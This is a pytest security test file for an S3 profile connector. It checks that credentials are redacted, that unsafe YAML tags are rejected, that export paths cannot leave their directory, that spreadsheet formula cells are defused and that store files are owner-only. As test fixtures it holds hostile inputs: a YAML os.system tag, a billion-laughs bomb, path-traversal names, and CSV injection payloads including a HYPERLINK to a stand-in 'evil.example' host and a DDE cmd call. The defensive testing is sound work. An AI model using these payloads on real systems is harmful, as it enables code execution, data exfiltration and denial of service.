"""Security promises under hostile conditions.

- No secret reaches a log, a history row, a mail, `validate` output or an
  exception message, even when the S3 endpoint rejects the credentials and
  echoes them back (the fault proxy answers every request with an S3 error
  document carrying the key id, as S3 does for InvalidAccessKeyId, or with
  both key id and secret, as a hostile or broken endpoint might).
- YAML is loaded safely: a `!!python/object/apply:os.system` tag is rejected
  with FILE:LINE by every command that loads the goals, never executed.
- Export keys stay inside the configured directory whatever the segment's
  name, and names that try to leave it are refused by `validate`.
- Exported cells that a spreadsheet would run as a formula are defused.
- The store and its -wal/-shm files are created owner-only (0600), even under
  umask 022.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP, AuthResult, Envelope, LoginPassword, Session
from fault_proxy import Answer, FaultProxy
from helpers import BUCKET, CONNECTION, PREFIX, Harness, csv_bytes, import_goal

from connector.errors import SourceError
from connector.goals.runner import RunOptions, run_connection
from connector.redaction import register_secrets
from connector.sources import S3Client, S3Credentials
from connector.storage import SQLiteStore, Trigger

KEY_ID = "AKIAPLANTEDKEY7Q3W9Z"
SECRET = "Pl4nted-s3cret-9f8e7d6c5b4a3f2e1d0c"
SMTP_USER = "mailer"
SMTP_PASSWORD = "smtp-Pl4nted-pa55-4c1b"
PLANTED = (KEY_ID, SECRET, SMTP_PASSWORD)
SECRET_ENV = {"SEC_KEY_ID": KEY_ID, "SEC_SECRET": SECRET}

REJECTIONS = {
    "invalid-key": Answer(
        403,
        "InvalidAccessKeyId",
        "The AWS Access Key Id you provided does not exist in our records.",
        f"<AWSAccessKeyId>{KEY_ID}</AWSAccessKeyId>",
    ),
    "bad-signature": Answer(
        403,
        "SignatureDoesNotMatch",
        "The request signature we calculated does not match the signature you provided.",
        f"<AWSAccessKeyId>{KEY_ID}</AWSAccessKeyId><StringToSign>AWS4-HMAC-SHA256</StringToSign>",
    ),
    "echoing-endpoint": Answer(
        400,
        "AccountProblem",
        f"account of key {KEY_ID} (secret {SECRET}) is suspended",
    ),
}


# -- secrets --------------------------------------------------------------------------------


@pytest.mark.parametrize("rejection", sorted(REJECTIONS))
async def test_an_s3_error_message_never_carries_the_credentials(
    fault_proxy: FaultProxy, rejection: str
) -> None:
    fault_proxy.add(REJECTIONS[rejection])
    credentials = S3Credentials(
        region="eu-west-1",
        endpoint_url=fault_proxy.url,
        access_key_id=KEY_ID,
        secret_access_key=SECRET,
    )
    async with S3Client(credentials, max_attempts=1) as s3:
        with pytest.raises(SourceError) as caught:
            _ = [obj async for obj in s3.list_objects(BUCKET, PREFIX)]
    for text in (str(caught.value), repr(caught.value), repr(credentials)):
        for secret in PLANTED:
            assert secret not in text


class Mailbox:
    def __init__(self) -> None:
        self.messages: list[bytes] = []
        self.authenticated: list[bool] = []

    async def handle_DATA(  # noqa: N802 -- aiosmtpd's hook name
        self, server: SMTP, session: Session, envelope: Envelope
    ) -> str:
        self.messages.append(envelope.original_content or b"")
        self.authenticated.append(bool(session.authenticated))
        return "250 OK"


def _authenticate(
    server: SMTP, session: Session, envelope: Envelope, mechanism: str, auth_data: Any
) -> AuthResult:
    ok = isinstance(auth_data, LoginPassword) and (auth_data.login, auth_data.password) == (
        SMTP_USER.encode(),
        SMTP_PASSWORD.encode(),
    )
    return AuthResult(success=ok, handled=False)


class _LocalSMTP(Controller):
    def _trigger_server(self) -> None:
        assert self.server is not None
        self.port = self.server.sockets[0].getsockname()[1]
        super()._trigger_server()


@pytest.fixture
def smtp() -> Iterator[tuple[_LocalSMTP, Mailbox]]:
    mailbox = Mailbox()
    controller = _LocalSMTP(
        mailbox,
        hostname="127.0.0.1",
        port=0,
        authenticator=_authenticate,
        auth_require_tls=False,
    )
    controller.start()
    try:
        yield controller, mailbox
    finally:
        controller.stop()


def write_secret_connection(goals_dir: Path, endpoint: str) -> Path:
    goals_dir.mkdir(parents=True, exist_ok=True)
    data = {
        "id": CONNECTION,
        "storage": {
            "region": "eu-west-1",
            "endpoint_url": endpoint,
            "access_key_id": "${SEC_KEY_ID}",
            "secret_access_key": "${SEC_SECRET}",
        },
        "notifications": {"email": ["ops@example.com"], "on_success": True},
        "goals": [import_goal()],
    }
    path = goals_dir / f"{CONNECTION}.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False), "utf-8")
    return path


@pytest.mark.slow
@pytest.mark.parametrize("rejection", sorted(REJECTIONS))
def test_planted_secrets_never_reach_logs_history_mail_or_validate_when_s3_rejects_them(
    tmp_path: Path,
    fault_proxy: FaultProxy,
    smtp: tuple[_LocalSMTP, Mailbox],
    rejection: str,
) -> None:
    fault_proxy.add(REJECTIONS[rejection])
    controller, mailbox = smtp
    harness = Harness(tmp_path, fault_proxy.url)
    write_secret_connection(harness.goals_dir, fault_proxy.url)
    env = {
        **SECRET_ENV,
        "CONNECTOR_LOG_FORMAT": "json",
        "CONNECTOR_LOG_LEVEL": "debug",  # the most a log could ever say
        "CONNECTOR_SMTP_HOST": "127.0.0.1",
        "CONNECTOR_SMTP_PORT": str(controller.port),
        "CONNECTOR_SMTP_STARTTLS": "false",
        "CONNECTOR_SMTP_USERNAME": SMTP_USER,
        "CONNECTOR_SMTP_PASSWORD": SMTP_PASSWORD,
    }

    run = harness.cli("run", CONNECTION, **env)
    history = harness.cli("history", "--json", **env)
    one_run = harness.cli("history", "--run", "1", "--json", **env)
    validate = harness.cli("validate", **env)

    assert run.returncode == 1, run.stdout + run.stderr
    assert "check the connection's credentials" in run.stdout or "refused" in run.stdout
    assert json.loads(history.stdout.splitlines()[0])["status"] == "failure"
    assert validate.returncode == 0
    assert len(mailbox.messages) == 1
    assert mailbox.authenticated == [True]
    assert fault_proxy.requests()  # S3 really answered with the rejection
    readable = {
        "run output": run.stdout,
        "run log": run.stderr,
        "history": history.stdout + history.stderr + one_run.stdout + one_run.stderr,
        "validate": validate.stdout + validate.stderr,
        "mail": mailbox.messages[0].decode(),
    }
    for where, text in readable.items():
        for secret in PLANTED:
            assert secret not in text, f"a planted secret is in the {where}"
    store = SQLiteStore(harness.db_path)
    try:
        [record] = store.list_runs(CONNECTION)
        assert record.error is not None
        for secret in PLANTED:
            assert secret not in record.error
    finally:
        store.close()


async def test_the_history_row_of_an_in_process_run_carries_no_secret(
    plain_harness: Harness, fault_proxy: FaultProxy, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same for a run started by the daemon's code path (no CLI in between)."""
    fault_proxy.add(REJECTIONS["echoing-endpoint"])
    for name, value in SECRET_ENV.items():
        monkeypatch.setenv(name, value)
    harness = plain_harness
    write_secret_connection(harness.goals_dir, fault_proxy.url)
    from connector.config import load_workspace  # noqa: PLC0415 -- reads the patched env

    workspace = load_workspace(harness.goals_dir)
    outcome = await run_connection(
        harness.store, workspace, CONNECTION, RunOptions(trigger=Trigger.SCHEDULE)
    )
    texts = [*outcome.result.errors, outcome.record.error or ""]
    assert any("suspended" in text for text in texts)  # the endpoint's words, minus secrets
    for text in texts:
        for secret in PLANTED:
            assert secret not in text


PG_PASSWORD = "pg-Pl4nted-pa55-7e3d2c"
"""Planted in the store URL; the local server trusts the connection and never asks for it."""


def _with_password(url: str) -> str:
    return url.replace("postgresql://postgres@", f"postgresql://postgres:{PG_PASSWORD}@", 1)


@pytest.mark.slow
@pytest.mark.postgres
def test_a_goal_variable_secret_and_the_store_url_password_reach_no_sink(
    tmp_path: Path,
    fault_proxy: FaultProxy,
    smtp: tuple[_LocalSMTP, Mailbox],
    postgres_url: str,
) -> None:
    """Every sink passes through one redaction: the endpoint echoes the `${VAR}` secrets of
    the goal file and the store URL's password, and none reaches the log, the history, the
    mail, the run's stored error or the CLI's error line."""
    fault_proxy.add(
        Answer(
            400,
            "AccountProblem",
            f"key {KEY_ID} (secret {SECRET}) of store password {PG_PASSWORD} is suspended",
        )
    )
    controller, mailbox = smtp
    database = _with_password(postgres_url)
    harness = Harness(tmp_path, fault_proxy.url, database=database)
    write_secret_connection(harness.goals_dir, fault_proxy.url)
    env = {
        **SECRET_ENV,
        "CONNECTOR_LOG_FORMAT": "json",
        "CONNECTOR_LOG_LEVEL": "debug",
        "CONNECTOR_SMTP_HOST": "127.0.0.1",
        "CONNECTOR_SMTP_PORT": str(controller.port),
        "CONNECTOR_SMTP_STARTTLS": "false",
        "CONNECTOR_SMTP_USERNAME": SMTP_USER,
        "CONNECTOR_SMTP_PASSWORD": SMTP_PASSWORD,
    }

    run = harness.cli("run", CONNECTION, **env)
    history = harness.cli("history", "--json", **env)
    one_run = harness.cli("history", "--run", "1", "--json", **env)
    server = postgres_url.partition("?")[0].rpartition("/")[0]
    missing = _with_password(f"{server}/no_such_db_x")
    refused = harness.cli("history", **{**env, "CONNECTOR_DATABASE": missing})

    assert run.returncode == 1, run.stdout + run.stderr
    assert "suspended" in run.stdout + run.stderr  # the endpoint's words, minus the secrets
    assert len(mailbox.messages) == 1
    assert refused.returncode == 1
    assert "no_such_db_x" in refused.stderr  # the error line names the database...
    readable = {
        "run output": run.stdout,
        "run log": run.stderr,
        "history": history.stdout + history.stderr + one_run.stdout + one_run.stderr,
        "mail": mailbox.messages[0].decode(),
        "store error line": refused.stdout + refused.stderr,  # ...never the password
    }
    store = harness.store
    try:
        [record] = store.list_runs(CONNECTION)
        assert record.error is not None
        readable["stored run error"] = record.error
    finally:
        store.close()
    for where, text in readable.items():
        for secret in (*PLANTED, PG_PASSWORD):
            assert secret not in text, f"a planted secret is in the {where}"


def test_a_connector_error_message_blanks_every_registered_secret() -> None:
    """The error sink: whatever text an error was raised with, its message is redacted."""
    register_secrets([PG_PASSWORD, SECRET])
    error = SourceError(f"echo {SECRET} and {PG_PASSWORD}", bucket=BUCKET)
    for text in (str(error), f"{error}", repr(str(error))):
        assert SECRET not in text
        assert PG_PASSWORD not in text
    assert "echo *** and ***" in str(error)


# -- YAML is data, never code ------------------------------------------------------------------


@pytest.mark.parametrize("command", [["validate"], ["run", "evil"], ["schedule"]])
def test_a_python_tag_in_a_goal_file_is_rejected_with_its_line_and_never_executed(
    tmp_path: Path, command: list[str]
) -> None:
    goals = tmp_path / "goals"
    goals.mkdir()
    marker = tmp_path / "pwned"
    evil = goals / "evil.yaml"
    evil.write_text(
        "id: evil\n"
        "goals:\n"
        "  - type: import-profiles\n"
        f'    name: !!python/object/apply:os.system ["touch {marker}"]\n'
        "    source: {bucket: abc}\n",
        "utf-8",
    )
    result = subprocess.run(
        [sys.executable, "-m", "connector", *command],
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_")},
            "CONNECTOR_GOALS_DIR": str(goals),
            "CONNECTOR_DATABASE": str(tmp_path / "store.db"),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2  # a configuration error
    assert f"{evil}:4: unsupported YAML tag !!python/object/apply:os.system" in result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert not marker.exists()


def test_hostile_goal_files_are_each_reported_as_file_line_message_by_validate(
    tmp_path: Path,
) -> None:
    """What tests/cli does not cover yet: tabs, a billion laughs, unsafe values with secrets."""
    goals = tmp_path / "goals"
    goals.mkdir()
    files = {
        "tabs.yaml": "id: tabs\ngoals:\n\t- type: import-profiles\n",
        "laughs.yaml": "".join(
            f"{name}: &{name} [{', '.join([f'*{prev}'] * 9) if prev else 'lol'}]\n"
            for prev, name in zip([None, *"abcdefg"], "abcdefgh", strict=True)
        )
        + "goals: *h\n",
        "leaky.yaml": (
            "id: leaky\n"
            "storage:\n"
            "  access_key_id: ${SEC_KEY_ID}\n"
            "  secret_access_key: ${SEC_SECRET}\n"
            "  endpoint_url: not-a-url\n"
            "schedule: {every_minutes: 0}\n"
            "goals:\n"
            "  - type: export-profiles\n"
            "    name: out\n"
            "    destination: {bucket: out-bucket, directory: ../../etc}\n"
            "    columns: [{header: id, value: profile_id}]\n"
        ),
    }
    for name, text in files.items():
        (goals / name).write_text(text, "utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "connector", "validate"],
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_")},
            **SECRET_ENV,
            "CONNECTOR_GOALS_DIR": str(goals),
            "CONNECTOR_DATABASE": str(tmp_path / "store.db"),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2  # a configuration error
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stderr.splitlines()
    for line in lines:
        _, _, rest = line.partition(".yaml:")
        assert rest.split(":", 1)[0].isdigit(), line  # FILE:LINE: message
    assert f"{goals / 'tabs.yaml'}:3: invalid YAML: found character '\\t'" in result.stderr
    assert f"{goals / 'leaky.yaml'}:5: storage.endpoint_url" in result.stderr
    assert f"{goals / 'leaky.yaml'}:6: schedule.every_minutes" in result.stderr
    assert f"{goals / 'leaky.yaml'}:10: goals[0].destination.directory" in result.stderr
    assert any(line.startswith(f"{goals / 'laughs.yaml'}:") for line in lines)
    for secret in PLANTED:
        assert secret not in result.stdout + result.stderr


# -- exports ----------------------------------------------------------------------------------

OUT_BUCKET = "security-out"
HOSTILE_NAMES = ["../../etc/passwd", "/abs/olute", "..", "a/../../b", "x\x00y\n/z", "%SEGMENT_ID%"]


@pytest.fixture
async def exporting(tmp_path: Path, moto_endpoint: str, reset_moto: None) -> AsyncIterator[Harness]:
    harness = Harness(tmp_path, moto_endpoint)
    harness.write_connection(
        import_goal(
            mappings=[
                {"column": "email", "property": "email", "rule": "set"},
                {"column": "note", "property": "note", "rule": "set"},
                {"column": "points", "property": "points", "rule": "set", "type": "number"},
            ]
        )
    )
    people = csv_bytes(
        "customer_id,email,note,points",
        '"F1","=HYPERLINK(""http://evil.example/?""&A1)","+1+1","-12.5"',
        '"F2","@SUM(A1:A9)","-2+3","7"',
        '"F3","plain@x.org","-cmd|\' /C calc\'!A0","0"',
        '"F4","ok@x.org","fine","-3"',
    )
    await harness.put({f"{PREFIX}people.csv": people})
    assert (await harness.run()).record.status.value == "success"
    await (await harness.s3()).ensure_bucket(OUT_BUCKET)
    yield harness
    await harness.aclose()


def export_goal(name: str, segment: str = "all", **destination: str) -> dict[str, Any]:
    return {
        "type": "export-profiles",
        "name": name,
        "segment": segment,
        "destination": {"bucket": OUT_BUCKET, **destination},
        "columns": [
            {"header": "customer", "property": "customer_id"},
            {"header": "email", "property": "email"},
            {"header": "note", "property": "note"},
            {"header": "points", "property": "points", "type": "number"},
        ],
    }


async def test_export_keys_stay_in_the_configured_directory_whatever_the_segment_name(
    exporting: Harness,
) -> None:
    segments = [
        {"id": f"s{number}", "name": name, "where": {"property": "customer_id", "exists": True}}
        for number, name in enumerate(HOSTILE_NAMES)
    ]
    (exporting.goals_dir / "segments.yaml").write_text(
        yaml.safe_dump({"segments": segments}), "utf-8"
    )
    goals = []
    for number in range(len(HOSTILE_NAMES)):
        goals.append(
            export_goal(
                f"named-{number}",
                f"s{number}",
                directory="exports/%SEGMENT_NAME%/",
                file_name="%SEGMENT_NAME%-%SEGMENT_ID%.csv",
            )
        )
        goals.append(
            export_goal(f"stamped-{number}", f"s{number}", directory="exports/%SEGMENT_NAME%")
        )
    exporting.write_connection(*goals)

    outcome = await exporting.run()

    assert outcome.record.status.value == "success", outcome.result.errors
    s3 = await exporting.s3()
    keys = [obj.key async for obj in s3.list_objects(OUT_BUCKET)]
    assert len(keys) == 2 * len(HOSTILE_NAMES)
    for key in keys:
        assert key.startswith("exports/"), key
        parts = key.split("/")
        assert ".." not in parts
        assert "" not in parts
        assert all(char.isprintable() for char in key), key


async def test_cells_a_spreadsheet_would_run_are_defused_and_numbers_stay_numbers(
    exporting: Harness,
) -> None:
    exporting.write_connection(export_goal("cells", directory="cells/", file_name="cells.csv"))

    outcome = await exporting.run()

    assert outcome.record.status.value == "success", outcome.result.errors
    s3 = await exporting.s3()
    data = b"".join([chunk async for chunk in s3.iter_object(OUT_BUCKET, "cells/cells.csv")])
    rows = {row[0]: row[1:] for row in csv.reader(io.StringIO(data.decode()))}
    assert rows["F1"] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+1+1", "-12.5"]
    assert rows["F2"] == ["'@SUM(A1:A9)", "'-2+3", "7"]
    assert rows["F3"] == ["plain@x.org", "'-cmd|' /C calc'!A0", "0"]
    assert rows["F4"] == ["ok@x.org", "fine", "-3"]


# -- files the daemon writes ------------------------------------------------------------------


@pytest.fixture
def umask_022() -> Iterator[None]:
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def test_the_store_and_its_wal_and_shm_files_are_owner_only_under_umask_022(
    tmp_path: Path, umask_022: None
) -> None:
    database = tmp_path / "store" / "connector.db"
    store = SQLiteStore(database)
    try:
        store.start_run(CONNECTION, None, Trigger.MANUAL)  # a write: the WAL and its index exist
        files = {path.name: stat.S_IMODE(path.stat().st_mode) for path in database.parent.iterdir()}
    finally:
        store.close()
    assert set(files) == {"connector.db", "connector.db-wal", "connector.db-shm"}
    assert files == dict.fromkeys(files, 0o600)


UNDER_UMASK_022 = (
    "import os, runpy, sys; os.umask(0o022); sys.argv = ['connector', *sys.argv[1:]]; "
    "runpy.run_module('connector', run_name='__main__')"
)


def test_a_store_created_by_the_command_line_under_umask_022_is_owner_only(
    tmp_path: Path,
) -> None:
    database = tmp_path / "store" / "connector.db"
    goals = tmp_path / "goals"
    goals.mkdir()
    (goals / "idle.yaml").write_text(  # a run of it makes the store and touches no S3
        "id: idle\n"
        "storage: {region: eu-west-1, access_key_id: k, secret_access_key: s}\n"
        "goals:\n"
        "  - {type: import-profiles, name: off, enabled: false, source: {bucket: idle-in},\n"
        "     match: {column: id, property: customer_id},\n"
        "     mappings: [{column: email, property: email, rule: set}]}\n",
        "utf-8",
    )
    result = subprocess.run(  # read commands never create a store (issue 15 item 10): a run
        [sys.executable, "-c", UNDER_UMASK_022, "run", "idle", "--quiet"],
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_")},
            "CONNECTOR_GOALS_DIR": str(goals),
            "CONNECTOR_DATABASE": str(database),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
